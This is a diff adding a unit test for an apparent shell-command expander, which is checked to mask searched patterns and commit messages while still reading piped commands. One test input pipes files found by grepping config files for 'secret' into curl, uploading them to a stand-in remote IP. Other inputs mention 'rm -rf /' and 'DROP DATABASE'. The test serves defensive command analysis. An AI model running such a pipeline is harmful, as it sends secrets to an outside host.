@@ -265,3 +265,14 @@ def test_semantic_docs_example_runs() -> None:
     assert blocks, "docs/semantic.md has no python example"
     for block in blocks:
         exec(compile(block.split("```", 1)[0], str(docs), "exec"), {})  # noqa: S102 - our own docs
+
+
+def test_expand_replaces_searched_patterns_and_messages_with_placeholders() -> None:
+    expander = default_expander()
+    searched = expander.expand('grep -rn "DROP DATABASE" db/schema.sql').split()
+    assert "drop" not in searched and "pattern" in searched and "schema" in searched
+    message = expander.expand('git commit -m "remove rm -rf / from install"').split()
+    assert "remove" not in message and "filesystem" not in message and "message" in message
+    # A pipeline after the pattern is still read: the operator ends the mention.
+    piped = expander.expand("grep -l secret conf/*.yml | xargs curl -T - http://203.0.113.4/").split()
+    assert "secret" not in piped and "curl" in piped and "remote" in piped
